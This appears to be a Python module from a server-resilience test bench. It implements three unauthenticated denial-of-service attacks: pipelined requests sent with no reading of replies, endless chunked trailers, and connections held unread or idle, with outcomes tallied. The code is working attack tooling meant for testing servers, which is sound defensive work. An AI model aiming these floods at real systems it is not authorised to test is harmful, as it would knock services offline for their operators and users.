# SPDX-License-Identifier: Apache-2.0
"""Attacks on the port, without credentials."""

import asyncio
import socket
from typing import Final
from urllib.parse import urlsplit

from bench.neighbours.ground import Ground
from bench.neighbours.http_client import HttpClient

WRITE_BYTES: Final = 16 * 1024
STUCK_SECONDS: Final = 2.0
"""Time after which the attacker gives up, if the server accepts no more bytes."""


class Pipelining:
    """Sends complete requests over one connection as fast as the server accepts them, and reads no
    answer."""

    id = "S01"
    title = "pipelined requests"

    async def prepare(self, ground: Ground) -> None:
        """Do nothing: this attack needs no preparation."""

    async def strike(self, ground: Ground) -> None:
        """Send 12 MB of requests."""
        request = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
        block = request * (WRITE_BYTES // len(request))
        await pour(ground, request, block, ground.of(12_000_000))


class Trailers:
    """Sends a chunked body that ends, followed by trailers that never end."""

    id = "S02"
    title = "endless trailers"

    async def prepare(self, ground: Ground) -> None:
        """Do nothing: this attack needs no preparation."""

    async def strike(self, ground: Ground) -> None:
        """Send 16 MB of trailers."""
        head = (
            b"POST /v1/auth/refresh HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
        )
        await pour(ground, head, b"a: b\r\n" * (WRITE_BYTES // 6), ground.of(16_000_000))


class Hoarding:
    """Opens many connections, some of which request much and read nothing."""

    id = "S08"
    title = "unread answers, idle connections"

    async def prepare(self, ground: Ground) -> None:
        """Do nothing: this attack needs no preparation."""

    async def strike(self, ground: Ground) -> None:
        """Open 40 connections that do not read, and 300 that stay idle after one answer."""
        clients = [HttpClient(ground.target.url) for _ in range(ground.of(340, 8))]
        deaf = len(clients) // 8
        try:
            for client in clients[:deaf]:
                await self._ask_and_not_read(ground, client)
            for client in clients[deaf:]:
                await ground.strike(client, "GET", "/healthz", None)
            await asyncio.sleep(STUCK_SECONDS)
        finally:
            for client in clients:
                client.close()

    async def _ask_and_not_read(self, ground: Ground, client: HttpClient) -> None:
        try:
            _, writer = await client.open()
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            writer.write(b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * ground.of(60, 8))
            async with asyncio.timeout(STUCK_SECONDS):
                await writer.drain()
        except (OSError, TimeoutError):
            ground.outcomes["closed"] += 1


async def pour(ground: Ground, head: bytes, block: bytes, size: int) -> None:
    """Write up to this many bytes to one connection, while the server accepts them; read
    nothing."""
    loop = asyncio.get_running_loop()
    parts = urlsplit(ground.target.url)
    with socket.socket() as raw:
        raw.setblocking(False)
        try:
            await loop.sock_connect(raw, (parts.hostname, parts.port))
            await loop.sock_sendall(raw, head)
            for _ in range(size // len(block)):
                async with asyncio.timeout(STUCK_SECONDS):
                    await loop.sock_sendall(raw, block)
        except TimeoutError:
            ground.outcomes["held back"] += 1
        except OSError:
            ground.outcomes["closed"] += 1
        else:
            ground.outcomes["taken whole"] += 1
